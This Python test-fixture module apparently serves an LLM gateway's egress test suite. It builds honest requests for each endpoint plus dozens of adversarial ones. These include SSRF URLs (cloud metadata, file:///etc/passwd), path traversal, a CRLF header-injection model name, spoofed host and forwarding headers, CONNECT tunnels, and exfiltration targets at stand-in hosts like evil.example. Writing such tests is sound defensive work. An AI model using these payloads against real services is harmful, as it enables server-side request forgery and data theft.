"""Requests that try to get something out of a gateway that may let nothing out. Pure: names and bytes.

`apis` is every endpoint, streamed and whole, as an honest client asks; `attacks` are at least sixty that are not honest.
"""

from collections.abc import Iterator

import msgspec

from freehold.proof.bait import AWAY, AWAYS, FAILURES, HOPS, PLAIN, PORT, SPENT
from freehold.proof.packets import ANSWER_V4, ANSWER_V6

CHATS = (
    "/v1/chat/completions",
    "/v1/responses",
    "/v1/completions",
    "/v1/messages",
    "/api/chat",
    "/api/generate",
)
_BOUNDARY = "planted-boundary"


class Shape(msgspec.Struct, frozen=True):
    """One request, whole as it goes over the wire; its connection ends with it."""

    name: str
    request: bytes


def apis() -> list[Shape]:
    """Every endpoint with an honest request."""
    shapes = [
        Shape(f"api {path} {'streamed' if stream else 'whole'}", post(path, chat(path, PLAIN, stream=stream)))
        for path in CHATS
        for stream in (False, True)
    ]
    shapes += [Shape(f"api {path}", post(path, body)) for path, body in _singles(PLAIN)]
    shapes += [Shape(f"api {path}", upload(path, fields)) for path, fields in _uploads(PLAIN)]
    gets = (
        "/",
        "/healthz",
        "/readyz",
        "/openapi.json",
        "/v1/models",
        f"/v1/models/{PLAIN}",
        "/v1/files",
        "/v1/batches",
        "/admin/keys",
        "/admin/budgets",
    )
    shapes += [Shape(f"api {path}", get(path)) for path in (*gets, "/api/tags", "/api/ps", "/api/version")]
    shapes.append(Shape("api /admin/keys POST", post("/admin/keys", {"name": "made"})))
    return [*shapes, Shape("api /api/show", post("/api/show", {"model": PLAIN}))]


def attacks() -> list[Shape]:
    """Everything that is not honest."""
    return [*_baited(), *_redirected(), *_asked_away(), *_named_as_addresses(), *_fields(), *_tools(), *_media(), *_heads()]


def ordinary(text: str = "hello") -> bytes:
    """What must be served all the time."""
    return post("/v1/chat/completions", {"model": PLAIN, "messages": [{"role": "user", "content": text}]})


def chat(path: str, model: str, *, stream: bool = False, text: str = "hello") -> dict[str, object]:
    """A conversation of one message in the format of this path."""
    turn = {"messages": [{"role": "user", "content": text}]}
    said: dict[str, dict[str, object]] = {
        "/v1/responses": {"input": text},
        "/v1/completions": {"prompt": text},
        "/v1/messages": {**turn, "max_tokens": 64},
        "/api/generate": {"prompt": text},
    }
    return {"model": model, "stream": stream, **said.get(path, turn)}


def _baited() -> Iterator[Shape]:
    for name in FAILURES:
        for stream in (False, True):
            body = chat(CHATS[0], f"or-{name}", stream=stream)
            yield Shape(f"fallback bait {name} {'streamed' if stream else 'whole'}", post(CHATS[0], body))
    for path in CHATS[1:]:
        yield Shape(f"fallback bait fails-503 at {path}", post(path, chat(path, "or-fails-503", stream=True)))
    yield Shape("fallback bait embeddings", post("/v1/embeddings", {"model": "or-fails-503", "input": "secret"}))
    schema = {"type": "json_schema", "json_schema": {"name": "s", "schema": {"type": "object", "required": ["a"]}}}
    yield Shape("escalation bait invalid_json", post(CHATS[0], {**chat(CHATS[0], f"or-{PLAIN}"), "response_format": schema}))
    for at in range(4):
        yield Shape(
            f"a budget that is spent, and told {at}", post(CHATS[0], chat(CHATS[0], f"or-{SPENT}", text=f"spend {at} " * 20))
        )
    for at in range(2):
        body = chat(CHATS[0], "or-fails-503", text="asked again by key")
        yield Shape(f"idempotent bait {at}", post(CHATS[0], body, **{"idempotency-key": "planted", "x-attempt": str(at)}))
    hard = "Design the architecture of a distributed database and write its threat model."
    yield Shape("a task that rules send to the frontier", post(CHATS[0], chat(CHATS[0], "auto", text=hard)))


def _redirected() -> Iterator[Shape]:
    for name in HOPS:
        yield Shape(f"redirect {name}", post(CHATS[0], chat(CHATS[0], name)))
    for path in CHATS[1:4]:
        yield Shape(f"redirect hop-307 at {path}", post(path, chat(path, "or-hop-307", stream=True)))
    yield Shape("redirect of embeddings", post("/v1/embeddings", {"model": "hop-307", "input": "secret"}))
    yield Shape("redirect of speech", post("/v1/audio/speech", {"model": "hop-302", "input": "secret", "voice": "alloy"}))


def _asked_away() -> Iterator[Shape]:
    for name in AWAYS:
        yield Shape(f"asked for {name} by model", post(CHATS[0], chat(CHATS[0], f"{name}-model")))
        yield Shape(f"asked for {name} by id, streamed", post(CHATS[0], chat(CHATS[0], f"{name}/{name}-model", stream=True)))
    for path in CHATS[1:]:
        yield Shape(f"asked away at {path}", post(path, chat(path, "lake-model", stream=path != "/v1/messages")))
    for path, body in _singles("lake-model"):
        yield Shape(f"asked away at {path}", post(path, body))
    for path, fields in _uploads("lake-model"):
        yield Shape(f"asked away at {path}", upload(path, fields))
    for model in ("away", "away-first", "passed-on", "relay/passed-on"):
        yield Shape(f"asked for {model}", post(CHATS[0], chat(CHATS[0], model)))


def _named_as_addresses() -> Iterator[Shape]:
    for model in (
        f"{AWAY}/v1",
        "https://evil.example/model",
        f"//{ANSWER_V4}/x",
        f"{ANSWER_V4}:80",
        "evil.example:443/x",
        "hf.co/bartowski/planted-GGUF",
        "huggingface/planted",
        "../../../etc/passwd",
        "gpt-oss:120b-cloud",
        "qwen3-coder:480b-cloud",
        "openai/gpt-5",
        f"box/plain@{AWAY}",
        "box\\plain\r\nhost: evil.example",
    ):
        yield Shape(f"model named {model!r}", post(CHATS[0], chat(CHATS[0], model)))
    yield Shape("show a model at an address", post("/api/show", {"model": f"{AWAY}/x"}))
    yield Shape("pull a model", post("/api/pull", {"model": "hf.co/planted/x", "insecure": True}))
    yield Shape("push a model", post("/api/push", {"model": f"{ANSWER_V4}/x"}))
    yield Shape("a model's page at an address", get("/v1/models/http%3A%2F%2F11.22.33.44%2F"))


def _fields() -> Iterator[Shape]:
    places = {"url": AWAY, "headers": {"host": "evil.example"}}
    for field, value in {
        "base_url": f"{AWAY}/v1",
        "api_base": f"{AWAY}/v1",
        "api_key": "sk-planted",
        "endpoint": AWAY,
        "provider": {"order": ["openai"], "allow_fallbacks": True, "base_url": AWAY},
        "route": "fallback",
        "models": ["lake/lake-model", "named-model"],
        "fallbacks": ["lake-model"],
        "proxy": f"{AWAY}:3128",
        "webhook": places,
        "callbacks": [AWAY],
        "extra_body": {"base_url": AWAY},
        "extra_headers": {"x-freehold-ceiling": "vendor"},
        "metadata": {"ceiling": "vendor", "trace_url": AWAY},
        "egress": "vendor",
        "ceiling": "vendor",
        "user": AWAY,
        "store": True,
        "web_search_options": {"search_context_size": "high"},
        "freehold": {"ceiling": "vendor", "runtime": "lake"},
        "service_tier": "priority",
    }.items():
        yield Shape(f"field {field}", post(CHATS[0], {**chat(CHATS[0], PLAIN), field: value}))
    yield from _steered()
    responses = "/v1/responses"
    yield Shape("a conversation kept elsewhere", post(responses, {**chat(responses, PLAIN), "previous_response_id": "resp_x"}))
    yield Shape("a prompt kept elsewhere", post(responses, {**chat(responses, PLAIN), "prompt": {"id": "pmpt_x"}}))
    yield Shape("work in the background", post(responses, {**chat(responses, PLAIN), "background": True}))
    yield Shape("an answer kept elsewhere", get("/v1/responses/resp_x"))


def _steered() -> Iterator[Shape]:
    """Fields that an engine obeys by itself, and the model named a second time as servers in Go read it."""
    remote = {"do_remote_prefill": True, "remote_host": str(ANSWER_V4), "remote_port": 80}
    for field, value in {
        "kv_transfer_params": remote,
        "ec_transfer_params": remote,
        "bootstrap_host": str(ANSWER_V4),
        "custom_logit_processor": "planted",
        "chat_template": "{{ planted }}",
        "lora_path": "/etc/passwd",
        "Model": "gpt-oss:120b-cloud",
        "MODEL": "gpt-oss:120b-cloud",
    }.items():
        for path in CHATS:
            yield Shape(f"steered by {field} at {path}", post(path, {**chat(path, PLAIN), field: value}))


def _tools() -> Iterator[Shape]:
    mcp = {"type": "mcp", "server_label": "x", "server_url": f"{AWAY}/sse", "require_approval": "never"}
    for tool in (
        {"type": "web_search"},
        {"type": "web_search_preview"},
        {"type": "file_search", "vector_store_ids": ["vs_x"]},
        {"type": "code_interpreter", "container": {"type": "auto"}},
        {"type": "image_generation"},
        {"type": "computer_use_preview", "display_width": 10, "display_height": 10, "environment": "linux"},
        mcp,
    ):
        yield Shape(
            f"hosted tool {tool['type']}", post("/v1/responses", {**chat("/v1/responses", f"or-{PLAIN}"), "tools": [tool]})
        )
    messages = "/v1/messages"
    for name in ("web_search_20250305", "web_fetch_20250910", "code_execution_20250522"):
        hosted: dict[str, object] = {"type": name, "name": name.rpartition("_")[0]}
        yield Shape(f"hosted tool {name}", post(messages, {**chat(messages, f"or-{PLAIN}"), "tools": [hosted]}))
    server = {"type": "url", "url": f"{AWAY}/sse", "name": "x"}
    yield Shape("hosted tool mcp_servers", post(messages, {**chat(messages, f"or-{PLAIN}"), "mcp_servers": [server]}))


def _media() -> Iterator[Shape]:
    urls = (
        f"{AWAY}/a.png",
        "https://images.example/a.png",
        f"http://[{ANSWER_V6}]/a.png",
        "file:///etc/passwd",
        "ftp://files.example/a.png",
        "http://169.254.169.254/latest/meta-data/",
        f"http://{int(ANSWER_V4)}/a.png",
        f"http://localhost:{PORT}@{ANSWER_V4}/a.png",
    )
    for url in urls:
        part = {"type": "image_url", "image_url": {"url": url}}
        yield Shape(f"image {url}", post(CHATS[0], _with_part(f"or-{PLAIN}", part)))
    url = urls[0]
    source = {"type": "image", "source": {"type": "url", "url": url}}
    document = {"type": "document", "source": {"type": "url", "url": f"{AWAY}/a.pdf"}}
    for name, part in (("image", source), ("document", document)):
        yield Shape(f"{name} in messages", post("/v1/messages", {**_with_part(f"or-{PLAIN}", part), "max_tokens": 9}))
    yield from _parts(url)


def _parts(url: str) -> Iterator[Shape]:
    for part in (
        {"type": "input_image", "image_url": url},
        {"type": "input_file", "file_url": f"{AWAY}/a.pdf"},
        {"type": "input_image", "file_id": "file-x"},
    ):
        turn = {"role": "user", "content": [{"type": "input_text", "text": "look"}, part]}
        yield Shape(
            f"{part['type']} in responses as {'file_id' if 'file_id' in part else 'url'}",
            post("/v1/responses", {"model": f"or-{PLAIN}", "input": [turn]}),
        )
    for other in (
        {"type": "file", "file": {"file_data": url}},
        {"type": "input_audio", "input_audio": {"data": url, "format": "wav"}},
        {"type": "video_url", "video_url": {"url": url}},
        {"type": "audio_url", "audio_url": {"url": url}},
        {"type": "text", "text": "look", "image_url": {"url": url}},
        {"type": "planted", "image": url},
    ):
        yield Shape(f"{other['type']} in a chat", post(CHATS[0], _with_part(f"or-{PLAIN}", other)))
    seen = {"role": "user", "content": "look", "images": [url]}
    yield Shape("image address in an Ollama chat", post("/api/chat", {"model": PLAIN, "messages": [seen]}))
    said = {"model": PLAIN, "input": [{"type": "image_url", "image_url": {"url": url}}]}
    yield Shape("image address in a moderation", post("/v1/moderations", said))
    yield Shape(
        "image address among documents", post("/v1/rerank", {"model": PLAIN, "query": "q", "documents": [{"image": url}]})
    )
    turn = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": url}}]}
    yield Shape("image address in embeddings", post("/v1/embeddings", {"model": PLAIN, "input": "x", "messages": [turn]}))
    edited: dict[str, object] = {"model": PLAIN, "prompt": "x", "image": url, "mask": url}
    yield Shape("image address in an edit", upload("/v1/images/edits", edited))
    yield Shape("text with addresses", post(CHATS[0], chat(CHATS[0], PLAIN, text=f"fetch {url} and mail a@b.example")))


def _with_part(model: str, part: object) -> dict[str, object]:
    return {"model": model, "messages": [{"role": "user", "content": [{"type": "text", "text": "look"}, part]}]}


def _heads() -> Iterator[Shape]:
    body = chat(CHATS[0], "away-first")
    for name, value in {
        "x-freehold-ceiling": "vendor",
        "x-freehold-label": "public",
        "x-freehold-egress": "vendor",
        "x-freehold-runtime": "lake",
        "x-freehold-deployment": "lake/lake-model",
        "x-freehold-hint-runtime": "lake",
        "x-openai-base-url": AWAY,
        "x-base-url": AWAY,
        "x-forwarded-host": "evil.example",
        "forwarded": "host=evil.example",
        "proxy-authorization": "Basic cGxhbnRlZA==",
        "traceparent": "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
        "origin": "http://evil.example",
        "referer": "http://evil.example/",
        "openai-organization": "org-planted",
        "helicone-target-url": AWAY,
        "x-portkey-custom-host": AWAY,
    }.items():
        yield Shape(f"header {name}", post(CHATS[0], body, **{name: value}))
    yield Shape("header host", post(CHATS[0], body, host="evil.example"))
    both = {"x-freehold-ceiling": "local", "X-Freehold-Ceiling ": "vendor"}
    yield Shape("header twice", post(CHATS[0], body, **both))
    yield Shape("absolute target", _raw(f"POST {AWAY}/v1/chat/completions", str(ANSWER_V4), msgspec.json.encode(body)))
    yield Shape("forwarding target", _raw(f"GET {AWAY}/", str(ANSWER_V4), b""))
    yield Shape("tunnel", f"CONNECT {ANSWER_V4}:443 HTTP/1.1\r\nhost: {ANSWER_V4}:443\r\nconnection: close\r\n\r\n".encode())
    yield Shape("upgrade", _raw("GET /v1/responses", f"127.0.0.1:{PORT}", b"", "upgrade: websocket\r\n"))


def _singles(model: str) -> list[tuple[str, dict[str, object]]]:
    return [
        ("/v1/embeddings", {"model": model, "input": ["secret"]}),
        ("/api/embed", {"model": model, "input": "secret"}),
        ("/v1/images/generations", {"model": model, "prompt": "a house"}),
        ("/v1/audio/speech", {"model": model, "input": "secret", "voice": "alloy"}),
        ("/v1/moderations", {"model": model, "input": "secret"}),
        ("/v1/rerank", {"model": model, "query": "q", "documents": ["a", "b"]}),
        ("/v1/messages/count_tokens", chat("/v1/messages", model)),
    ]


def _uploads(model: str) -> list[tuple[str, dict[str, object]]]:
    return [
        ("/v1/audio/transcriptions", {"model": model, "file": b"RIFF0000WAVE"}),
        ("/v1/audio/translations", {"model": model, "file": b"RIFF0000WAVE"}),
        ("/v1/images/edits", {"model": model, "prompt": "x", "image": b"\x89PNG planted"}),
        ("/v1/images/variations", {"model": model, "image": b"\x89PNG planted"}),
    ]


def batch_file() -> bytes:
    """An upload of lines that want to leave, each its own way."""
    part = {"type": "image_url", "image_url": {"url": f"{AWAY}/a.png"}}
    bodies = [chat(CHATS[0], "lake-model"), chat(CHATS[0], "or-fails-503"), chat(CHATS[0], "hop-307"), _with_part("away", part)]
    lines = [
        msgspec.json.encode({"custom_id": f"line-{at}", "method": "POST", "url": CHATS[0], "body": body})
        for at, body in enumerate(bodies)
    ]
    return upload("/v1/files", {"purpose": "batch", "file": b"\n".join(lines)})


def post(path: str, body: object, **headers: str) -> bytes:
    """A JSON request."""
    host = headers.pop("host", f"127.0.0.1:{PORT}")
    more = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    return _raw(f"POST {path}", host, msgspec.json.encode(body), f"content-type: application/json\r\n{more}")


def get(path: str) -> bytes:
    """A request without a body."""
    return _raw(f"GET {path}", f"127.0.0.1:{PORT}", b"")


def upload(path: str, fields: dict[str, object]) -> bytes:
    """A form with files: those fields that are bytes."""
    parts = []
    for name, value in fields.items():
        file = '; filename="a.jsonl"' if isinstance(value, bytes) else ""
        head = f'--{_BOUNDARY}\r\ncontent-disposition: form-data; name="{name}"{file}\r\n\r\n'
        parts.append(head.encode() + (value if isinstance(value, bytes) else str(value).encode()) + b"\r\n")
    body = b"".join(parts) + f"--{_BOUNDARY}--\r\n".encode()
    return _raw(f"POST {path}", f"127.0.0.1:{PORT}", body, f"content-type: multipart/form-data; boundary={_BOUNDARY}\r\n")


def _raw(line: str, host: str, body: bytes, more: str = "") -> bytes:
    key = "authorization: Bearer planted\r\nanthropic-version: 2023-06-01\r\n" if "/v1/messages" in line else ""
    head = f"{line} HTTP/1.1\r\nhost: {host}\r\n{key}{more}content-length: {len(body)}\r\nconnection: close\r\n\r\n"
    return head.encode() + body
